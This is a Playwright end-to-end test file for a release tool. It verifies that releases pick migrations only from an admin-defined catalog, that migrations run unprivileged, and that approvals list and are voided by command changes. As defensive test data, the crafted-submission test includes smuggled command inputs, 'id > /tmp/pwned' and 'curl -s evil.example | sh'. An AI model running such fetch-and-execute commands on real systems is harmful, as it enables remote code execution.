import net from "node:net";
import { type Locator } from "@playwright/test";
import { expect, test } from "./fixtures";
import { ReleasePage, approvalIds, decide } from "./pages/releases-page";
import { RolloutPage, RolloutsPage, canary } from "./pages/rollouts-page";
import { ServiceAnalysisPage } from "./pages/service-analysis-page";
import { ServicesPage } from "./pages/services-page";
import { type ActionArgsEncoding, actionResultOf, invokeServerAction, serverActionId } from "./support/server-actions";

// Issue 10, commands only admins define. A release picks migrations by name from its service's
// catalog (admin settings): the form has no way to enter a command and a crafted submission that
// carries one is refused. The approval screen lists the exact commands the approval lets run.

const REFUSED = "Releases cannot carry commands: an admin defines migrations and their commands in the service's settings.";
const CREATE_RELEASE = () => serverActionId("app/(dashboard)/releases/actions.ts", "createReleaseAction");
const stamp = Date.now().toString(36);

test.describe("a release cannot carry a command", () => {
  test("the release form offers the service's migrations by name and no field for a command", async ({ asUser }) => {
    const dev = await asUser("dev");
    await dev.goto("/releases/new");
    const form = dev.getByRole("form", { name: "New release" });
    await form.getByLabel("Service", { exact: true }).selectOption({ label: "sample-api" });
    const picker = form.getByRole("group", { name: /^Migrations of sample-api/ });
    await expect(picker.getByRole("checkbox")).toHaveCount(3);
    await expect(picker.getByRole("checkbox", { name: /^2026-06-add-orders-index \(expand\)/ })).toBeVisible();
    await expect(picker.getByRole("checkbox", { name: /^2026-06-drop-legacy-status \(contract\)/ })).toBeVisible();
    // Nothing typed can become a command: no free-text migrations field, no field named like one.
    await expect(form.locator('textarea[name="migrations"], input[name="migrations"]:not([type="checkbox"])')).toHaveCount(0);
    await expect(form.locator('[name*="command" i]')).toHaveCount(0);
    await expect(form.getByText(/\{\{/)).toHaveCount(0);
  });

  for (const encoding of ["json", "multipart"] as ActionArgsEncoding[]) {
    test(`a crafted createReleaseAction (${encoding}) carrying a command is refused with the field error; nothing is created`, async ({ asUser, baseURL }) => {
      const dev = await asUser("dev");
      await dev.goto("/releases/new");
      const serviceId = await dev.getByRole("form", { name: "New release" }).getByLabel("Service", { exact: true }).locator("option", { hasText: "sample-api" }).getAttribute("value");
      const version = `6.6.6-${encoding}-${stamp}`;
      const fields = {
        serviceId: serviceId!,
        version,
        commitSha: "abcdef1234",
        changeLog: "Looks like an ordinary release.",
        rollbackPlan: "Redeploy the previous version.",
        strategy: JSON.stringify({ kind: "canary", steps: [{ weight: 100, holdSeconds: 0 }] }),
        monitoringMinutes: "15",
      };
      const call = (extra: Record<string, string | string[]>) =>
        invokeServerAction(dev.request, { page: "/releases/new", actionId: CREATE_RELEASE(), origin: baseURL!, encoding, fields: { ...fields, ...extra } }).then(async (res) => {
          expect(res.status()).toBe(200);
          return actionResultOf(await res.text());
        });

      // Control: the same call with a catalog pick creates a release, so the refusals below are about the command.
      expect(await call({ version: `${version}-ok`, migrations: "2026-06-add-orders-index" })).toMatchObject({ ok: true });

      const smuggled = JSON.stringify([{ id: "2026-06-add-orders-index", kind: "expand", command: "id > /tmp/pwned" }]);
      expect(await call({ migrations: smuggled })).toMatchObject({ ok: false, code: "INVALID", fieldErrors: { migrations: [REFUSED] } });
      expect(await call({ migrations: "2026-06-add-orders-index", command: "curl -s evil.example | sh" })).toMatchObject({ ok: false, code: "INVALID", fieldErrors: { command: [REFUSED] } });
      expect(await call({ migrations: ["2026-06-add-orders-index", "drop-everything"] })).toMatchObject({
        ok: false,
        code: "INVALID",
        fieldErrors: { migrations: ['"drop-everything" is not a migration of sample-api: pick one defined in the service\'s settings.'] },
      });

      await dev.goto("/releases");
      await expect(dev.getByText(`${version}-ok`).first()).toBeVisible();
      await expect(dev.getByText(new RegExp(`${version}(?!-ok)`))).toHaveCount(0);
    });
  }
});

// Router ports of this spec's own service: 23000-23999 (the block of this tests; no other
// test, bench or e2e router uses it). Staging (environment #1) is served on the base port.
async function portFree(port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const srv = net.createServer();
    srv.once("error", () => resolve(false));
    srv.listen(port, "127.0.0.1", () => srv.close(() => resolve(true)));
  });
}
async function pickRouterPort(): Promise<number> {
  const blocks = 5;
  const start = Math.floor(Math.random() * blocks);
  for (let i = 0; i < blocks; i++) {
    const port = 23_000 + ((start + i) % blocks) * 200;
    if ((await Promise.all([0, 1, 10, 11, 100, 101, 110, 111].map((d) => portFree(port + d)))).every(Boolean)) return port;
  }
  throw new Error("no free port block in 23000-23999 for the admin-commands spec");
}

/** Clicks until the item passes: other specs' canaries may briefly make staging unhealthy. */
async function untilPassed(click: () => Promise<void>, status: Locator, what: string): Promise<void> {
  await expect(async () => {
    await click();
    await expect(status, what).toHaveAttribute("data-status", "passed", { timeout: 20_000 });
  }).toPass({ timeout: 150_000, intervals: [2000, 5000] });
}

test.describe.serial("the approval screen lists the exact commands the approval lets run", () => {
  test.setTimeout(240_000);
  const service = `cmd-api-${stamp}`;
  const expand = { id: "e2e-001-add-col", kind: "expand", description: "Add a nullable column", command: "echo expand {{migration}} {{version}} in {{environment}} as uid $(id -u)" };
  const contract = { id: "e2e-002-drop-col", kind: "contract", description: "Drop the old column", command: "echo contract {{migration}} in {{environment}} as uid $(id -u)" };

  test("admin-defined migrations run in staging as an unprivileged user; approvers see every command; an admin changing one voids the approval", async ({ asUser }) => {
    // The admin defines the service, its deploy target and its migration catalog.
    const admin = await asUser("admin");
    const services = new ServicesPage(admin);
    await services.goto();
    const routerPort = await pickRouterPort();
    await services.fill({
      name: service,
      description: "Commands e2e",
      deployTarget: JSON.stringify({ driver: "local", entry: "sample-service", routerPort, healthPath: "/health" }),
      migrations: JSON.stringify([expand, contract]),
    });
    await services.submit();
    await expect(services.form.getByRole("status")).toHaveText("Saved.");
    // No traffic reaches this service: canary analysis would hold its release's canary for want of data.
    const analysis = new ServiceAnalysisPage(admin);
    await analysis.goto(service);
    await analysis.save({ enabled: false });

    // Something runs in staging first (the pre-flight health check probes what runs).
    const captainPage = await asUser("captain");
    const rollouts = new RolloutsPage(captainPage);
    await rollouts.goto();
    await rollouts.start({ service, environment: "staging", version: "0.9.0", strategy: canary([100, 0]) });
    await expect(new RolloutPage(captainPage).status).toHaveText("succeeded", { timeout: 60_000 });

    // The captain picks both migrations by name and drives the release through staging.
    const cs = new ReleasePage(captainPage);
    const id = await cs.create({ service, version: "1.0.0", commit: "c0ffee1234", migrations: [expand.id, contract.id], strategy: canary([100, 0]), soakMinutes: 0 });
    await cs.goto(id);
    await expect(cs.page.getByRole("table", { name: "Migration runs" }).locator("tr[data-migration]")).toHaveCount(2);
    await untilPassed(() => cs.page.getByRole("button", { name: "Run automated checks" }).click(), cs.item("environment_health"), "environment health");
    for (const key of ["quality_gates", "runbooks_updated", "feature_freeze"]) await cs.sign(key, `CI run for ${service} green`);
    const oncall = new ReleasePage(await asUser("oncall"));
    await oncall.goto(id);
    for (const key of ["rollback_rehearsed", "oncall_notified", "backup_verified"]) await oncall.sign(key, `OPS-${id}: done`);
    const feature = new ReleasePage(await asUser("feature"));
    await feature.goto(id);
    await feature.sign("migrations_confirmed", `${expand.id} and ${contract.id} reviewed`);

    await cs.goto(id);
    const validation = cs.page.getByRole("region", { name: "Validations" }).locator('[data-environment="staging"]');
    await untilPassed(() => cs.page.getByRole("form", { name: "Validate for staging" }).getByRole("button").click(), validation, "staging validation");
    await cs.command("Deploy to staging");
    await cs.expectPhase("Staging soak", 90_000);

    // Both migrations ran from the catalog, as an unprivileged user (the e2e server runs as root in CI: nobody).
    const runs = cs.page.getByRole("table", { name: "Migration runs" });
    for (const [m, text] of [
      [expand.id, `expand ${expand.id} 1.0.0 in staging as uid `],
      [contract.id, `contract ${contract.id} in staging as uid `],
    ] as const) {
      const row = runs.locator(`tr[data-migration="${m}"]`);
      await expect(row.locator('[data-status="succeeded"]')).toHaveCount(1);
      await row.getByText("output", { exact: true }).click();
      const output = row.getByTestId("migration-output");
      await expect(output).toContainText(text);
      await expect(output).not.toContainText("as uid 0\n");
      expect((await output.textContent())!.trim()).toMatch(/as uid [1-9]\d*$/);
    }

    // Smoke sign-off, then the production approvals are requested.
    const smoke = (await approvalIds(feature.page, id)).find((a) => a.kind === "smoke");
    await decide(feature.page, smoke!.id, "Approve", "Smoke tests pass");
    await expect(feature.page.getByText("This approval is approved.")).toBeVisible();
    await cs.goto(id);
    await cs.command("Request production approval");
    await cs.expectPhase("Production approval");

    // The approval screen (sentinel's production approval and the feature owner's migration
    // sign-off alike) lists the exact commands, as code, filled in for production.
    const approvals = await approvalIds(captainPage, id);
    const sentinelApproval = approvals.find((a) => a.kind === "production" && a.role === "Governance Sentinel")!;
    const migrationSignOff = approvals.find((a) => a.kind === "migration")!;
    const expected = [
      ["migration e2e-001-add-col (expand)", `echo expand 'e2e-001-add-col' '1.0.0' in 'production' as uid $(id -u)`],
      ["start each version (local driver)", "node lib/drivers/local/sample-service.mjs"],
      ["migration e2e-002-drop-col (contract)", `echo contract 'e2e-002-drop-col' in 'production' as uid $(id -u)`],
    ];
    const sentinel = await asUser("sentinel");
    for (const approvalId of [sentinelApproval.id, migrationSignOff.id]) {
      await sentinel.goto(`/approvals/${approvalId}`);
      const list = sentinel.getByRole("region", { name: "Commands this approval lets run" }).getByRole("table", { name: "Commands" });
      await expect(list.locator("tbody tr")).toHaveCount(expected.length);
      for (const [i, [step, command]] of expected.entries()) {
        const row = list.locator("tbody tr").nth(i);
        await expect(row).toHaveAttribute("data-step", step!);
        await expect(row.locator("pre > code")).toHaveText(command!);
      }
    }

    // D4: the admin changes the contract migration's command; the approval given for the old one is void.
    const edit = await asUser("admin");
    await edit.goto("/settings/services");
    await edit.getByRole("link", { name: service, exact: true }).click();
    const form = edit.getByRole("form", { name: "Save service" });
    await form.getByLabel("Migrations (JSON)", { exact: true }).fill(JSON.stringify([expand, { ...contract, command: "echo contract v2 {{migration}}" }]));
    await form.getByRole("button", { name: "Save service" }).click();
    await expect(form.getByRole("status")).toHaveText("Saved.");
    await sentinel.goto(`/approvals/${sentinelApproval.id}`);
    await expect(sentinel.getByRole("region", { name: "Commands this approval lets run" })).toContainText("echo contract v2 'e2e-002-drop-col'");
    // Said before any click (issue 14): no Approve on a request the change voided.
    await expect(sentinel.getByTestId("cannot-decide")).toHaveText("You cannot decide this request: The release changed since this approval was requested; the request is void.");
    await expect(sentinel.getByRole("form", { name: "Approve" })).toHaveCount(0);
  });
});
